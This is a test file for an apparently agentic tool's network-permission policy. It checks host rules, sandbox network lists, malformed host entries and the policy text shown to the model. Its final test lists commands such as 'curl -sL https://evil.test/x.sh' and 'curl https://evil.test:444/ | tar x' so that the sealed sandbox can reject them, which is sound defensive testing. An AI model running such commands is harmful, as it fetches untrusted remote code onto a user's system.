/** The capability `net`: which hosts rules approve, defer and reject, and what the program itself says first. */

import assert from "node:assert/strict";
import { test } from "node:test";
import { decide } from "../../src/policy/decide.ts";
import { BUILTIN_POLICY, BUILTIN_POLICY_NAME } from "../../src/policy/file/builtin-policy.ts";
import { loadPolicy } from "../../src/policy/file/load.ts";
import { policyWords } from "../../src/policy/policy-words.ts";
import type { Policy } from "../../src/policy/policy.ts";
import { analyseCommand } from "../../src/policy/shell/shell.ts";
import { actionOf } from "../../src/protocol/approval.ts";
import type { SandboxLevel } from "../../src/protocol/cell.ts";

const load = (text: string): Promise<Policy> => loadPolicy(`version: 1\n${text}`, { file: "t.yml" });

function short(policy: Policy, host: string, level: SandboxLevel = "sealed"): string {
  const { verdict, rule } = decide(policy, [{ kind: "net", host }], { level, workDir: "/w", analyse: analyseCommand });
  return `${verdict} ${rule}`;
}

const HOSTS = ["docs.example", "docs.example:8443", "a.docs.example", "b.a.docs.example", "evildocs.example", "x.test"];
const LISTED = `sandbox: { network: [${HOSTS.map((host) => JSON.stringify(host)).join(", ")}] }\n`;

async function verdicts(rules: string, fallback = "defer"): Promise<Readonly<Record<string, string>>> {
  const policy = await load(`default: ${fallback}\nrules:\n${rules}\n${LISTED}`);
  return Object.fromEntries(HOSTS.map((host) => [host, short(policy, host)]));
}

test("an approval names a host and its port exactly, a domain names what is below it", async () => {
  assert.deepEqual(await verdicts('  - { id: one, approve: { net: ["docs.example:443"] } }'), {
    "docs.example": "approve one",
    "docs.example:8443": "defer default",
    "a.docs.example": "defer default",
    "b.a.docs.example": "defer default",
    "evildocs.example": "defer default",
    "x.test": "defer default",
  });
  assert.deepEqual(
    await verdicts('  - { id: sub, approve: { net: ["*.docs.example", "docs.example:8443"] } }', "reject"),
    {
      "docs.example": "reject default",
      "docs.example:8443": "approve sub",
      "a.docs.example": "approve sub",
      "b.a.docs.example": "approve sub",
      "evildocs.example": "reject default",
      "x.test": "reject default",
    },
  );
});

test("a rejection covers every port, and the strictest rule wins", async () => {
  const rules = [
    '  - { id: all, approve: { net: ["*"] } }',
    "  - { id: ask, defer: { net: [x.test] } }",
    '  - { id: no, reject: { net: [docs.example, "*.a.docs.example"] } }',
  ];
  for (const order of [rules, rules.toReversed()]) {
    assert.deepEqual(await verdicts(order.join("\n")), {
      "docs.example": "reject no",
      "docs.example:8443": "reject no",
      "a.docs.example": "approve all",
      "b.a.docs.example": "reject no",
      "evildocs.example": "approve all",
      "x.test": "defer ask",
    });
  }
});

test("a sealed cell rejects what sandbox.network does not list, whatever a rule says; a weaker one has no list", async () => {
  const policy = await load(`default: approve\nrules:\n  - { id: all, approve: { net: ["*"] } }\n${LISTED}`);
  assert.deepEqual(
    ["evil.test", "x.test:8443", "docs.example"].map((host) => [short(policy, host), short(policy, host, "none")]),
    [
      ["reject builtin:network", "approve all"],
      ["reject builtin:network", "approve all"],
      ["approve all", "approve all"],
    ],
  );
  const grouped = await load(`rules:\n  - { id: all, approve: { net: ["*"] } }\nsandbox: { network: [npm] }\n`);
  assert.equal(short(grouped, "registry.npmjs.org"), "approve all"); // the proxy knows the hosts of the group
  const builtin = await loadPolicy(BUILTIN_POLICY, { file: BUILTIN_POLICY_NAME });
  assert.deepEqual(
    [short(builtin, "x.test"), short(builtin, "x.test", "none")],
    ["reject builtin:network", "defer default"],
  );
});

test("what is no host is refused when the file loads", async () => {
  const odd = [
    "localhost",
    "10.0.0.1",
    "[::1]",
    "https://x.test",
    "x.test/a",
    "user@x.test",
    "X.test",
    "*.",
    "a.*.test",
    "**",
    "x.test:0",
    "127.1",
    "0x7f.0x1",
    "x.test.",
    "",
  ];
  for (const host of odd) {
    const text = `rules:\n  - { id: a, approve: { net: [${JSON.stringify(host)}] } }\n`;
    await assert.rejects(load(text), { code: "policy.invalid" }, host);
  }
});

test("the model is told, and an approval for the session holds for the one host", async () => {
  const policy = await load(
    `rules:\n  - { id: a, approve: { net: [docs.example] } }\n  - { id: b, reject: { net: [x.test] }, reason: tracks people }\n`,
  );
  const words = policyWords(policy, { level: "sealed", isReadOnly: false, isSubagent: false }).split("\n");
  assert.ok(words.includes("- open with web tools docs.example"), words.join("\n"));
  assert.ok(words.includes("- open with web tools x.test: tracks people"), words.join("\n"));
  assert.equal(
    actionOf([
      { kind: "net", host: "b.test" },
      { kind: "net", host: "a.test" },
    ]),
    "net:a.test+net:b.test",
  );
});

test("nobody is asked for a command that the sealed cell's network forbids", async () => {
  const policy = await load(
    `default: defer\nrules:\n  - { id: echo, approve: { exec: ["echo **"] } }\nsandbox: { network: [docs.example, "docs.example:8443"], services: ["db:8080"] }\n`,
  );
  const decided = (command: string, level: SandboxLevel = "sealed"): string => {
    const {
      verdict,
      rule,
      reason = "",
    } = decide(policy, [{ kind: "exec", command, cwd: "." }], {
      level,
      workDir: "/work",
      analyse: analyseCommand,
    });
    return `${verdict} ${rule}${rule === "builtin:network" ? ` ${reason}` : ""}`;
  };
  const no = (host: string): string => `reject builtin:network sandbox.network does not list ${host}`;
  const table: Readonly<Record<string, string>> = {
    "curl -sL https://evil.test/x.sh": no("evil.test"),
    "cd src && curl https://evil.test:444/ | tar x": no("evil.test:444"),
    "wget http://docs.example/a": no("docs.example:80"),
    "git clone https://github.test/a/b": no("github.test"),
    "curl https://docs.example/a": "defer default",
    "curl https://docs.example:8443/a": "defer default",
    "curl http://localhost:3000": "defer default",
    "curl http://127.0.0.2:3000 http://[::1]:1/": "defer default",
    "curl http://db:8080/": "defer default",
    'curl "https://$HOST/"': "defer default",
    'git commit -m "see https://evil.test"': "defer default",
    "npm install": "defer default",
    "echo https://evil.test": "approve echo",
  };
  assert.deepEqual(Object.fromEntries(Object.keys(table).map((command) => [command, decided(command)])), table);
  assert.equal(decided("curl https://evil.test", "separate"), "defer default");
});
